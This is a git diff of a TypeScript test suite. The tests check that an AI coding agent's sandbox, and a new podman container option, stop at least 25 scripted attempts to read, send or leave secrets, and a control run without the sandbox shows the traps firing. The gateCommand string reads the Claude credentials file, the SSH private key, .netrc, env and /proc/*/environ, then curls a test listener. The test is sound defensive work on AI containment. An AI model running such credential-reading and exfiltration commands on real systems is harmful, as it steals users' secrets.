@@ -7,6 +7,7 @@ import { CLAUDE_PATH } from '../../model/run-claude.ts';
 import { scratch } from '../scratch.ts';
 import { openStage } from '../stage.ts';
 import { createPc, missingPrograms } from './canaries.ts';
+import { cannotRun, makeImage } from './image.ts';
 import { tries } from './tries.ts';
 
 const missing = missingPrograms(CLAUDE_PATH);
@@ -19,10 +20,11 @@ const resultsSchema = z.array(z.looseObject({ type: z.string(), content: z.unkno
 const gateCommand = (url: string) =>
   `cat ~/.claude/.credentials.json ~/.ssh/id_ed25519 ~/.netrc; env; cat /proc/*/environ; curl -sS -m 3 ${url}/gate; true`;
 
-async function attack(sandbox: 'auto' | 'none') {
+async function attack(settings: Record<string, unknown>) {
+  const isConfined = settings['sandbox'] !== 'none';
   await using directory = await scratch();
   await using pc = await createPc(directory.path);
-  const list = tries(pc).filter(({ isForSandboxOnly }) => sandbox !== 'none' || !isForSandboxOnly);
+  const list = tries(pc).filter(({ isForSandboxOnly }) => isConfined || !isForSandboxOnly);
   await using stage = await openStage({
     steps: [
       ...list.map(({ tool }) => ({ kind: 'tools' as const, calls: [tool] })),
@@ -30,7 +32,7 @@ async function attack(sandbox: 'auto' | 'none') {
       { kind: 'text', text: 'Done.' },
     ],
     environment: pc.environment,
-    settings: { sandbox, test: [gateCommand(pc.listener.url)], repairRounds: 0, timeoutMinutes: 3 },
+    settings: { ...settings, test: [gateCommand(pc.listener.url)], repairRounds: 0, timeoutMinutes: 3 },
   });
   pc.configureGit(readFileSync(join(stage.remote.home, '.gitconfig'), 'utf8'));
   await stage.perform();
@@ -45,7 +47,7 @@ async function attack(sandbox: 'auto' | 'none') {
     .filter((entry) => entry.isFile())
     .map((entry) => join(entry.parentPath, entry.name))
     // Claude's own transcript tells what was tried.
-    .filter((path) => !path.includes('/.claude/projects/') && /^evil/m.test(readFileSync(path, 'latin1')));
+    .filter((path) => !path.includes('/projects/') && /^evil/m.test(readFileSync(path, 'latin1')));
   const inTemp = [`/tmp/evil-${pc.listener.port}`, `/tmp/claude/evil-${pc.listener.port}`];
   const evilInTemp = inTemp.filter((path) => existsSync(path));
   for (const path of evilInTemp) rmSync(path);
@@ -67,24 +69,40 @@ async function attack(sandbox: 'auto' | 'none') {
   };
 }
 
+async function expectNothing(settings: Record<string, unknown>, sandbox: string): Promise<void> {
+  const seen = await attack(settings);
+  expect(seen.tried).toBeGreaterThanOrEqual(25);
+  expect(seen.answered).toBeGreaterThanOrEqual(seen.tried);
+  // The tools do run; what fails is what they try.
+  expect(seen.results[0]).toContain('npm_config_cache=');
+  const { leaks, toModel, toGitHub, toLog, hits, evil, isOtherAlive, outcome } = seen;
+  expect({ leaks, toModel, toGitHub, toLog, hits, evil, isOtherAlive, outcome }).toEqual({
+    ...{ leaks: [], toModel: [], toGitHub: [], toLog: [], hits: [], evil: [], isOtherAlive: true },
+    outcome: { kind: 'succeeded' },
+  });
+  expect(seen.check).toContain(`| Sandbox | ${sandbox} |`);
+}
+
 describe.skipIf(missing.length > 0)(title, () => {
   test('at least 25 ways to read, send or leave something come to nothing, and the task goes on', async () => {
-    const seen = await attack('auto');
-    expect(seen.tried).toBeGreaterThanOrEqual(25);
-    expect(seen.answered).toBeGreaterThanOrEqual(seen.tried);
-    // The tools do run; what fails is what they try.
-    expect(seen.results[0]).toContain('npm_config_cache=');
-    const { leaks, toModel, toGitHub, toLog, hits, evil, isOtherAlive, outcome } = seen;
-    expect({ leaks, toModel, toGitHub, toLog, hits, evil, isOtherAlive, outcome }).toEqual({
-      ...{ leaks: [], toModel: [], toGitHub: [], toLog: [], hits: [], evil: [], isOtherAlive: true },
-      outcome: { kind: 'succeeded' },
-    });
-    expect(seen.check).toContain('srt');
+    await expectNothing({ sandbox: 'auto' }, 'srt');
   }, 120_000);
 });
 
+const withoutPodman = cannotRun();
+
+describe.skipIf(withoutPodman !== undefined)(
+  `in a container${withoutPodman ? ` (needs ${withoutPodman})` : ''}`,
+  () => {
+    test('the same ways come to nothing', async () => {
+      using image = makeImage();
+      await expectNothing({ sandbox: 'auto', image: image.name }, 'podman');
+    }, 120_000);
+  },
+);
+
 test('without a sandbox the same attempt shows that the traps work', async () => {
-  const { leaks, hits, evil, isOtherAlive, check } = await attack('none');
+  const { leaks, hits, evil, isOtherAlive, check } = await attack({ sandbox: 'none' });
   expect(leaks).toContain('SSH key');
   expect(leaks.length).toBeGreaterThanOrEqual(15);
   expect(hits).toContain('GET /a');
